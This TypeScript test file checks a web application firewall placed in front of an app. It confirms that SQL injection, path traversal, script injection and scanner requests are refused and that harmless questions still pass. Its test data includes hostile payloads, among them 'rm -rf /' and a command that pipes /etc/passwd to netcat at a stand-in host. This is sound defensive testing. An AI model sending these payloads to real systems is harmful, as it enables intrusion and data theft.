import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { setTimeout as delay } from 'node:timers/promises'
import { fileURLToPath } from 'node:url'
import { Client, StreamableHTTPClientTransport } from '@modelcontextprotocol/client'
import OpenAI from 'openai'
import { run } from '../../scripts/stack/docker.ts'
import { ask, compose, figure, ownerToken, stack, up, untilHealth } from './stack.ts'

const image = 'pollux-nginx-waf:test'
const token = ownerToken()
/** What is a question to the twin, and would be an attack in an address. */
const hostile = "SELECT * FROM users; rm -rf / -- ' OR '1'='1 <script>alert(1)</script> ../../etc/passwd"

/** nginx of that image, or the usual one, with everything else as it is. */
async function useImage(name: string | undefined): Promise<void> {
  if (name === undefined) {
    delete process.env['NGINX_IMAGE']
    delete process.env['NGINX_MEMORY']
  } else {
    process.env['NGINX_IMAGE'] = name
    process.env['NGINX_MEMORY'] = '512m'
  }
  compose('up', '--detach', '--no-deps', '--no-build', '--wait', '--wait-timeout', '120', 'nginx')
  await untilHealth('nginx', 'healthy')
}

before(async () => {
  run('docker', ['build', '--tag', image, fileURLToPath(new URL('../../deploy/nginx/waf/', import.meta.url))])
  up()
  await useImage(image)
})
after(async () => {
  await useImage(undefined)
  run('docker', ['image', 'rm', image])
})

const attacks: Record<string, string> = {
  'SQL in a query': `/?id=${encodeURIComponent("1' OR '1'='1")}`,
  'a file of the system in a query': '/?file=../../../../etc/passwd',
  'a script in a query': `/?q=${encodeURIComponent('<script>alert(1)</script>')}`,
  'a command in a query of the API': `/api/v1/twin?x=${encodeURIComponent('; cat /etc/passwd | nc 192.0.2.1 4444')}`,
  'a file that nobody should ask for': '/.git/config',
}

for (const [what, path] of Object.entries(attacks))
  test(`${what} is refused, as JSON or as a page`, async () => {
    const reply = await ask(path)
    assert.equal(reply.status, 403)
    assert.equal(((await reply.json()) as { error: { code: string } }).error.code, 'forbidden')
    assert.match(reply.headers.get('strict-transport-security') ?? '', /max-age/)
    const page = await ask(path, { headers: { accept: 'text/html' } })
    assert.equal(page.status, 403)
    assert.match(await page.text(), /<h1>This request was refused<\/h1>/)
    await delay(250) // the limit of requests
  })

test('a scanner is refused, and a query beside a body opens no way round', async () => {
  assert.equal((await ask('/', { headers: { 'user-agent': 'sqlmap/1.7' } })).status, 403)
  const path = `/api/v1/twin/answers?id=${encodeURIComponent("1' OR '1'='1")}`
  assert.equal((await ask(path, { body: { question: 'Who are you?' } })).status, 403)
})

test('the audit log says what matched, and nothing that was sent in a body or a header', async () => {
  const secret = 'orchid-lantern-4711'
  const path = `/?id=${encodeURIComponent("1' OR '1'='1")}`
  const reply = await ask(path, { headers: { authorization: `Bearer ${secret}`, cookie: `pollux_session=${secret}` } })
  assert.equal(reply.status, 403)
  await ask(path, { body: { question: secret } })
  await delay(1_000)
  const lines = compose('logs', '--no-color', '--no-log-prefix', 'nginx').split('\n')
  // Some versions of Compose put a control code before each line.
  const entries = lines.flatMap((line) => /\{"transaction".*/.exec(line)?.[0] ?? [])
  const matched = entries.flatMap(
    (line) =>
      (JSON.parse(line) as { transaction: { messages: { details: { ruleId: string } }[] } }).transaction.messages,
  )
  assert.ok(
    matched.some(({ details }) => details.ruleId === '942100'),
    'the rule that found SQL',
  )
  assert.doesNotMatch(lines.join('\n'), new RegExp(secret))
})

test('what people write is no attack: questions, tickets, files, and messages of clients', async () => {
  const { status } = await ask('/api/v1/twin/answers', { body: { question: hostile } })
  assert.equal(status, 200)
  const ticket = await ask('/api/v1/tickets', {
    token,
    body: { title: 'The import fails with a quote', description: hostile },
  })
  assert.ok(ticket.status < 300, await ticket.text())
  const form = new FormData()
  form.append('audience', 'owner')
  form.append('file', new Blob([`# Notes\n\n${hostile}`], { type: 'text/markdown' }), "l'entretien; notes.md")
  const added = await fetch(`${stack.url}/api/v1/twin/sources`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}` },
    body: form,
  })
  assert.equal(added.status, 200, await added.text())
  await delay(2_000) // the limit of requests

  const openai = new OpenAI({ baseURL: `${stack.url}/v1`, apiKey: token, maxRetries: 0 })
  const models = await openai.models.list()
  const completion = await openai.chat.completions.create({
    model: models.data[0]!.id,
    messages: [{ role: 'user', content: hostile }],
  })
  assert.ok(completion.choices[0]?.message.content)

  const client = new Client({ name: 'stack-test', version: '1' })
  await client.connect(
    new StreamableHTTPClientTransport(new URL(`${stack.url}/mcp`), {
      requestInit: { headers: { authorization: `Bearer ${token}` } },
    }),
  )
  try {
    const result = await client.callTool({ name: 'ask_twin', arguments: { question: hostile } })
    assert.ok(!result.isError)
  } finally {
    await client.close()
  }
})

test('everything else works as before: pages, methods, streams, clients called back on their machine', async () => {
  assert.equal((await ask('/', { headers: { accept: 'text/html' } })).status, 200)
  assert.equal((await ask('/api/health')).status, 200)
  for (const method of ['PUT', 'PATCH', 'DELETE']) {
    const { status } = await ask('/api/v1/twin/sources/none', { method, token, body: { title: 'x' } })
    assert.notEqual(status, 403, method)
  }
  const stream = await ask('/api/v1/twin/answers', {
    body: { question: 'What does she work with?' },
    headers: { accept: 'text/event-stream' },
  })
  assert.match(stream.headers.get('content-type') ?? '', /event-stream/)
  assert.match(await stream.text(), /^event: /m)
  const redirect = encodeURIComponent('http://127.0.0.1:33418/callback')
  const authorize = await ask(`/oauth2/authorize?client_id=none&response_type=code&redirect_uri=${redirect}`)
  assert.notEqual(authorize.status, 403)
  const huge = await ask('/api/v1/twin/answers', { body: { question: 'x'.repeat(22 * 1024 * 1024) } })
  assert.equal(huge.status, 413)
})

test('an event that the app sends comes at once', async () => {
  const opened = performance.now()
  const stream = await ask('/api/v1/operations/events', { token, headers: { accept: 'text/event-stream' } })
  assert.equal(stream.status, 200)
  const reader = stream.body!.getReader()
  await reader.read()
  const seconds = (performance.now() - opened) / 1000
  await reader.cancel()
  assert.ok(seconds < 10, `${seconds} s`)
  figure('with the firewall: SQL, script, path and scanner refused; the same text as a question answered', 'yes', 'yes')
})
